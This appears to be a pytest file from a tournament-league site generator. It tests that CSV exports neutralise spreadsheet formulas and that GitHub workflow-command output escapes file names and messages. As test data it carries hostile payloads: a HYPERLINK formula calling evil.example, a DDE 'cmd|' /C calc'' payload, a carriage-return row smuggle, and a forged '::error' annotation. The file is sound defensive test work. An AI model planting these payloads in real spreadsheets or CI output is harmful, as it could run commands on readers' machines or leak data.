"""Outputs that cannot be turned against their readers (issue 33, item 9): the CSV copies of the tables never
hand a spreadsheet a formula typed by an editor, and `league check --format github` escapes what it puts in a
workflow command as GitHub documents, so that a file name or a message cannot forge or break an annotation."""
from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path

from click.testing import CliRunner

from league.site import api
from league.cli import main
from league.content.diagnostics import Diagnostic, SourceMark
from tests.bad_input.harness import copy_base

STAGE = "seasons/2026/truco/etapa-1.yaml"
HOSTILE = {
    "Grupo A": '=HYPERLINK("http://evil.example/?"&A1;"clique")',
    "Grupo B": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_group_named_like_a_formula_comes_out_neutralised(tmp_path):
    content = copy_base(tmp_path / "src")
    stage = content / STAGE
    text = stage.read_text(encoding="utf-8")
    for old, new in HOSTILE.items():
        assert f"      {old}:\n" in text
        text = text.replace(f"      {old}:\n", f"      '{new.replace(chr(39), chr(39) * 2)}':\n", 1)
    stage.write_text(text, encoding="utf-8")
    out = tmp_path / "site"
    res = CliRunner().invoke(main, ["build", "--content", str(content), "--out", str(out), "--no-search"])
    assert res.exit_code == 0, res.output
    groups = _rows((out / "api/2026/truco/etapa-1-grupos.csv").read_text(encoding="utf-8"))
    assert groups[0][0] == "group"
    names = {row[0] for row in groups[1:]}
    assert names == {"'" + v for v in HOSTILE.values()}
    # the numbers league writes itself stay numbers: a negative balance is not prefixed
    balance = groups[0].index("pontinhos_balance")
    assert any(re.fullmatch(r"-\d+", row[balance]) for row in groups[1:])
    # no cell of any CSV the build wrote starts a formula (the JSON keeps the name as typed: not a spreadsheet)
    for path in (out / "api").rglob("*.csv"):
        for row in _rows(path.read_text(encoding="utf-8")):
            for cell in row:
                assert not (cell[:1] in ("=", "+", "@", "\t", "\r")
                            or (cell.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", cell))), (path, cell)
    data = json.loads((out / "api/2026/truco/etapa-1.json").read_text(encoding="utf-8"))
    assert {g["name"] for g in data["groups"]} == set(HOSTILE.values())


def test_to_csv_neutralises_text_and_leaves_numbers():
    rows = [{"t": "=1+1", "p": "+55 49 9999", "m": "-x", "a": "@x", "tab": "\tx", "cr": "\r=1", "nul": "\0=1",
             "ok": "a=b", "n": -3, "f": -2.5, "d": Decimal("-1.5"), "inf": float("-inf"),
             "l": ["-a", "b"], "dict": {"=k": 1}, "none": None, "b": False}]
    out = _rows(api.to_csv(rows))
    assert out[1] == ["'=1+1", "'+55 49 9999", "'-x", "'@x", "'\tx", "'\n=1", "'\0=1", "a=b", "-3", "-2.5", "-1.5",
                      "'-inf", "'-a b", "'=k=1", "", "false"]
    assert len(out) == 2


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    # csv.writer quotes a cell for the characters of its line terminator ("\n") only: an unquoted CR is a line
    # break to a spreadsheet, and "=cmd" would start a row of its own
    text = api.to_csv([{"g": "Grupo\r=cmd|' /C calc'!A0", "h": "a\r\nb"}])
    assert "\r" not in text
    assert _rows(text) == [["g", "h"], ["Grupo\n=cmd|' /C calc'!A0", "a\nb"]]


def _unescape_data(s: str) -> str:   # what GitHub's runner does with a command's message
    return s.replace("%0D", "\r").replace("%0A", "\n").replace("%25", "%")


def _unescape_property(s: str) -> str:
    return _unescape_data(s.replace("%3A", ":").replace("%2C", ","))


def _parse(line: str) -> tuple[str, dict, str]:
    m = re.fullmatch(r"::(\w+) ([^:]*)::(.*)", line)
    assert m, line
    props = dict(p.split("=", 1) for p in m[2].split(","))
    return m[1], {k: _unescape_property(v) for k, v in props.items()}, _unescape_data(m[3])


def test_format_github_escapes_properties_and_message():
    d = Diagnostic(SourceMark("a,b:c/x,line=9::%0A.yaml", 3, 7), "100% errado\r\nlinha 2 ::warning ::x",
                   "use 50%")
    line = d.format_github()
    assert "\n" not in line and "\r" not in line
    assert line == ("::error file=a%2Cb%3Ac/x%2Cline=9%3A%3A%250A.yaml,line=3,col=7::100%25 errado%0D%0Alinha 2 "
                    "::warning ::x — sugestão: use 50%25")
    kind, props, msg = _parse(line)
    assert kind == "error"
    assert props == {"file": "a,b:c/x,line=9::%0A.yaml", "line": "3", "col": "7"}
    assert msg == "100% errado\r\nlinha 2 ::warning ::x — sugestão: use 50%"
    warning = Diagnostic(SourceMark("p:q,r.yaml"), "m", level="warning").format_github()
    assert warning == "::warning file=p%3Aq%2Cr.yaml::m"


def test_check_format_github_with_a_hostile_folder_name_and_message(tmp_path):
    content = copy_base(tmp_path / "src")
    odd = content.parent / "con,te:nt"
    content.rename(odd)
    stage = odd / STAGE
    stage.write_text(stage.read_text(encoding="utf-8").replace("host: aptru", 'host: "100%\\n::error ::forjado"', 1),
                     encoding="utf-8")
    res = CliRunner().invoke(main, ["check", "--content", str(odd), "--format", "github"])
    assert res.exit_code == 1, res.output
    lines = res.stdout.splitlines()
    assert lines and all(line.startswith("::error ") or line.startswith("::warning ") for line in lines), lines
    parsed = [_parse(line) for line in lines]
    mine = [p for p in parsed if p[1]["file"].endswith(STAGE)]
    assert mine, lines
    kind, props, msg = mine[0]
    assert props["file"] == f"con,te:nt/{STAGE}" and props["line"] == "3"
    assert "100%\n::error ::forjado" in msg
    assert "file=con%2Cte%3Ant/seasons/2026/truco/etapa-1.yaml,line=3," in lines[parsed.index(mine[0])]
